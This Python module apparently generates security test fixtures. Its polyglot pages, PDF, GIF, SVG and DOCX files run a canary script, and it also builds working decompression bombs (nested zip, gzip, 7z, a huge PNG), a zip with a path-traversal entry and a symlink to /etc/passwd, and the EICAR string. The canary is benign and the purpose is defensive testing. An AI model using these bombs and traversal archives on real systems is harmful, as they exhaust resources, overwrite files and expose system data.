"""Files that do harm where they are opened: pages, scripts, bombs. Small here, huge when unpacked.

The active ones run ``SCRIPT`` where a browser takes them for what they pretend to be: it marks its
window and asks for ``/canary``.
"""

import gzip
import io
import lzma
import stat
import struct
import zipfile
import zlib

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = "window.__pwn=1;new Image().src='/canary'"
_NAMESPACE = 'xmlns="http://www.w3.org/1999/xhtml"'
_MB = 1024 * 1024


def _xml() -> bytes:
    return f"""<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#sheet"?>
<!DOCTYPE x [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>
<x><xsl:stylesheet id="sheet" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><html {_NAMESPACE}><script>{SCRIPT}</script></html></xsl:template>
</xsl:stylesheet></x>""".encode()


def _pdf() -> bytes:
    objects = [
        "<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>",
        "<</Type/Pages/Kids[4 0 R]/Count 1>>",
        "<</S/JavaScript/JS(app.launchURL\\('/canary'\\);)>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
    body = "%PDF-1.7\n" + "".join(f"{n} 0 obj{o}endobj\n" for n, o in enumerate(objects, 1))
    return f"{body}trailer<</Root 1 0 R/Size 5>>\n%%EOF".encode()


def _mht() -> bytes:
    return (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type=text/html\r\n\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n<script>{SCRIPT}</script>\r\n--b--\r\n"
    ).encode()


def _gif() -> bytes:
    """Return what is an image, and a script: the width opens a comment."""
    head = b"GIF89a/*\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x2f\x2a\x01\x00\x00\x02\x02D\x01\x00;"
    return head + b"*/=1;" + SCRIPT.encode()


def _zip(*entries: tuple[str, bytes], mode: int = 0o100644) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            entry = zipfile.ZipInfo(name)
            entry.compress_type, entry.external_attr = zipfile.ZIP_DEFLATED, mode << 16
            archive.writestr(entry, content)
    return out.getvalue()


def _docx() -> bytes:
    """Return a letter that takes in a page of HTML, by ``altChunk``."""
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    letter = f'<w:document xmlns:w="{word}" xmlns:r="{office}"><w:body><w:altChunk r:id="a"/>'
    return _zip(
        ("word/document.xml", f"{letter}</w:body></w:document>".encode()),
        ("word/page.html", f"<script>{SCRIPT}</script>".encode()),
    )


def _zip_of_zips() -> bytes:
    """Return 42.zip's idea: 16 zips of 16 zips of 16 zips of 40 MB, 160 GB in all."""
    content, ending = b"\0" * 10 * _MB, "bin"
    for count in (4, 16, 16, 16):
        content = _zip(*((f"{n}.{ending}", content) for n in range(count)))
        ending = "zip"
    return content


def _links() -> bytes:
    """Return a zip with a link out of its folder, and a path out of it."""
    link = _zip(("lien", b"/etc/passwd"), mode=stat.S_IFLNK | 0o777)
    with zipfile.ZipFile(out := io.BytesIO(link), "a") as archive:
        archive.writestr("../../../../tmp/ailleurs", SCRIPT)
    return out.getvalue()


def _gz() -> bytes:
    """Return 10 GB of zeros."""
    return gzip.compress(b"\0" * 16 * _MB, 9) * 640


def _seven(content: bytes, times: int = 1) -> bytes:
    """Return a 7z whose one file is *content* so many times (LZMA2 may begin anew as often)."""
    filters = [{"id": lzma.FILTER_LZMA2, "preset": 0}]
    packed = lzma.compress(content, lzma.FORMAT_RAW, filters=filters)[:-1] * times + b"\x00"

    def number(value: int) -> bytes:
        return b"\xff" + struct.pack("<Q", value)

    header = b"\x01\x04\x06" + number(0) + b"\x01\x09" + number(len(packed))
    header += b"\x00\x07\x0b\x01\x00\x01\x21\x21\x01\x18\x0c" + number(len(content) * times)
    header += b"\x00\x08\x00\x00\x05\x01\x11\x05\x00a\x00\x00\x00\x00\x00"
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    check = struct.pack("<I", zlib.crc32(start))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + check + start + packed + header


def _png() -> bytes:
    """Return an image of 65,000 by 65,000 dots, all black: 528 MB once decoded."""
    rows, row = 65_000, 65_000 // 8 + 1
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(b"\0" * row * 100) + packer.flush(zlib.Z_FULL_FLUSH)
    total = rows * row  # Adler-32 of zeros: 1, and their number
    data = b"\x78\xda" + piece * (rows // 100) + b"\x03\x00"
    data += struct.pack(">HH", total % 65521, 1)

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    size = struct.pack(">IIBBBBB", 65_000, rows, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


ACTIVE = {
    "html": ("page.html", f"<script>{SCRIPT}</script>".encode()),
    "svg": (
        "dessin.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SCRIPT}</script></svg>'.encode(),
    ),
    "xhtml": ("page.xhtml", f"<html {_NAMESPACE}><script>{SCRIPT}</script></html>".encode()),
    "xml+xslt": ("page.xml", _xml()),
    "pdf with JS": ("facture.pdf", _pdf()),
    "mht": ("page.mht", _mht()),
    "GIF and JS": ("photo.gif", _gif()),
    "docx": ("courrier.docx", _docx()),
    "js": ("code.js", SCRIPT.encode()),
    "eicar": ("eicar.com", EICAR),
}
BOMBS = {
    "zip of zips": ("42.zip", _zip_of_zips()),
    "gz": ("journal.gz", _gz()),
    "7z in 7z": ("sauvegarde.7z", _seven(_seven(b"\0" * 2 * _MB, 5000))),
    "links in a zip": ("liens.zip", _links()),
    "png": ("photo.png", _png()),
}
